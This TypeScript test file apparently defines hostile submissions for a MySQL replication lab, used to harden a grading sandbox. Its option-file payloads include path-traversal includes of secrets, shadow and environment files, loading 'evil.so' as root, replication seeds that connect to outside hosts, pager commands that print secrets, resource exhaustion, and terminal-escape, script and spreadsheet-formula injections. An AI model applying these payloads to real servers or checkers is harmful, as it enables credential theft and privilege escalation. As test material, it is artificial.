import { ofFiles, type Hostile, type Target } from './hostile.ts';
import { solutionOf } from './known.ts';

const solution = solutionOf('mysql-replication');

/** Both option files of the solution, each with more behind it. */
function options(name: string, tries: string, most: number, more: string | ((target: Target) => string)): Hostile {
  return ofFiles(name, tries, { most }, (target) =>
    Object.fromEntries(
      Object.entries(solution).map(([path, text]) => [
        path,
        `${text}\n${typeof more === 'string' ? more : more(target)}\n`,
      ]),
    ),
  );
}

/** Hostile submissions of the exercise `mysql-replication`. */
export const hostileOptions: readonly Hostile[] = [
  options(
    'cnf-includes',
    'have the checker quote files that it includes',
    100,
    ({ secret }) => `!includedir /etc/lab/../../run/secrets
!include /etc/lab/../..${secret}
!include /etc/lab/../../run/secrets/server.key
!include /etc/lab/../../proc/self/environ
!include /etc/lab/../shadow`,
  ),
  options(
    'cnf-init-file',
    'have statements run at the start, and write files as logs',
    100,
    `loose-init-file = /etc/lab/init.sql
loose-general-log = ON
loose-general-log-file = /run/service/shell
loose-slow-query-log-file = /proc/1/fd/1
loose-log-error = /run/mysqld/errors
loose-secure-file-priv = /
loose-local-infile = ON`,
  ),
  options(
    'cnf-programs',
    'load a program, and be another user elsewhere',
    0,
    `loose-plugin-dir = /tmp
loose-plugin-load-add = evil=evil.so
loose-early-plugin-load = evil.so
loose-user = root
loose-chroot = /proc/1/root
daemonize
loose-init-file = /run/secrets/server.key`,
  ),
  options(
    'cnf-asks-outside',
    'have the server connect to the host, as a member of a group',
    100,
    ({ hosts, port }) => `loose-plugin-load-add = group_replication.so
loose-gtid-mode = ON
loose-enforce-gtid-consistency = ON
loose-group-replication-group-name = aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa
loose-group-replication-local-address = 127.0.0.1:33061
loose-group-replication-group-seeds = ${hosts.map((host) => `${host}:${port}`).join(',')}
loose-group-replication-start-on-boot = ON
loose-report-host = ${hosts[0]}`,
  ),
  options(
    'cnf-clients',
    'lead those astray who ask the server',
    100,
    ({ secret }) => `init-connect = "DO SLEEP(3600)"
event-scheduler = ON
[client]
socket = /tmp/another.sock
plugin-dir = /tmp
[mysql]
init-command = "SELECT '#0#'"
execute = "SELECT 1"
tee = /run/secrets/tee
pager = cat ${secret}
prompt = "\\033[2J"`,
  ),
  options(
    'cnf-memory',
    'ask for all memory and every processor',
    100,
    `innodb-buffer-pool-size = 64G
innodb-buffer-pool-instances = 64
key-buffer-size = 8G
innodb-read-io-threads = 64
innodb-write-io-threads = 64
innodb-log-buffer-size = 4G
max-connections = 100000
thread-cache-size = 16384`,
  ),
  options(
    'cnf-escapes',
    'carry escapes, pages and formulas into what is observed',
    0,
    `\u001b]0;owned\u0007\u001b[2J<script>alert(1)</script> = ]]><failure/>
=cmd|'/c calc'!A0 = \u202eevil`,
  ),
];
